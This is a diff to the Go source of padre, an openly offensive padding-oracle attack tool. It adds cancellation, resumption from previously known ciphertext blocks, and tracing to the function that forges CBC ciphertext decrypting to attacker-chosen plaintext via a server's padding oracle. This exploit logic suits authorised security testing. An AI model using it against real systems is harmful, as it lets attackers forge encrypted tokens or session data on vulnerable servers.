@@ -1,16 +1,29 @@
 package exploit
 
 import (
+	"context"
 	"fmt"
 
 	"github.com/glebarez/padre/pkg/util"
 )
 
-func (p *Padre) Encrypt(plainText string, byteStream chan byte) ([]byte, error) {
+// Encrypt produces ciphertext (IV prepended), that decrypts into plainText (padded with Padding) on the oracle side.
+// every produced byte of ciphertext is delivered into byteStream as soon as discovered (in reverse order).
+// probing stops when ctx is done, the error of context is returned then
+func (p *Padre) Encrypt(ctx context.Context, plainText string, byteStream chan byte) ([]byte, error) {
+	return p.EncryptWithKnown(ctx, plainText, nil, byteStream)
+}
+
+// EncryptWithKnown is like Encrypt, but skips blocks which are already known.
+// known is the trailing part of ciphertext, produced previously for the same plainText (e.g. in interrupted session),
+// only complete blocks of it are used. Known bytes are delivered into byteStream as well.
+// if nothing is known, but Intermediates hold decrypted ciphertext, ciphertext is built up from its last block:
+// as long as plaintext ends like the decrypted one, the blocks are the same, and only the rest is broken
+func (p *Padre) EncryptWithKnown(ctx context.Context, plainText string, known []byte, byteStream chan byte) ([]byte, error) {
 	blockLen := p.BlockLen
 
 	// pad
-	plainText = Pkcs7Pad(plainText, blockLen)
+	plainText = string(p.padding().Pad([]byte(plainText), blockLen))
 
 	// count the blocks
 	blockCount := len(plainText) / blockLen
@@ -18,21 +31,30 @@ func (p *Padre) Encrypt(plainText string, byteStream chan byte) ([]byte, error)
 	// initialize a slice that will contain our cipherText (blockCount + 1 for IV)
 	cipher := make([]byte, (blockLen * (blockCount + 1)))
 
-	// last block is generated randomly
-	lastBlock := util.RandomSlice(blockLen)
-	copy(cipher[len(cipher)-blockLen:], lastBlock)
+	// reuse complete blocks of known ciphertext
+	knownLen := len(known) / blockLen * blockLen
+	if knownLen > len(cipher) {
+		return nil, inputError{fmt.Errorf("Known ciphertext is longer than plaintext allows (%d > %d)", knownLen, len(cipher))}
+	}
 
-	// the last block is already known, so we can fetch the bytes
-	// NOTE: they are fetcher in reverse order, just like any other byte throughout this exploit
-	if byteStream != nil {
-		for i := len(lastBlock) - 1; i >= 0; i-- {
-			byteStream <- lastBlock[i]
+	// unless known, last block is the one of decrypted ciphertext, or generated randomly
+	if knownLen == 0 {
+		known, knownLen = util.RandomSlice(blockLen), blockLen
+		if p.Intermediates != nil {
+			if last := p.Intermediates.LastFinal(blockLen); last != nil {
+				known = last
+			}
 		}
 	}
+	copy(cipher[len(cipher)-knownLen:], known[len(known)-knownLen:])
 
-	/* Start with the last block and move towards the 1st block.
+	// the known blocks can be fetched right away
+	// NOTE: they are fetcher in reverse order, just like any other byte throughout this exploit
+	streamReversed(cipher[len(cipher)-knownLen:], byteStream)
+
+	/* Start with the last unknown block and move towards the 1st block.
 	Each block is used successively as a IV and then as a cipherText in the next iteration */
-	for blockNum := blockCount; blockNum >= 1; blockNum-- {
+	for blockNum := blockCount - (knownLen/blockLen - 1); blockNum >= 1; blockNum-- {
 		// mark indexes
 		x := (blockNum - 1) * blockLen
 		y := blockNum * blockLen
@@ -41,9 +63,13 @@ func (p *Padre) Encrypt(plainText string, byteStream chan byte) ([]byte, error)
 		plainBlock := []byte(plainText)[x:y]
 
 		// get nulling IV
-		nullingIV, err := p.breakCipher(cipher[y:z], newXORingStreamer(plainBlock, byteStream))
+		nullingIV, err := p.breakVerified(ctx, blockNum, cipher[y:z], nil, false, newXORingStreamer(plainBlock, byteStream))
 		if err != nil {
-			return nil, fmt.Errorf("error occurred while encrypting block %d: %w", blockNum, err)
+			return nil, &BlockError{Block: blockNum, Err: err, what: fmt.Sprintf("encrypting block %d", blockNum)}
+		}
+
+		if p.Trace != nil {
+			p.traceEncrypted(blockNum, nullingIV, plainBlock)
 		}
 
 		// reveal the cipher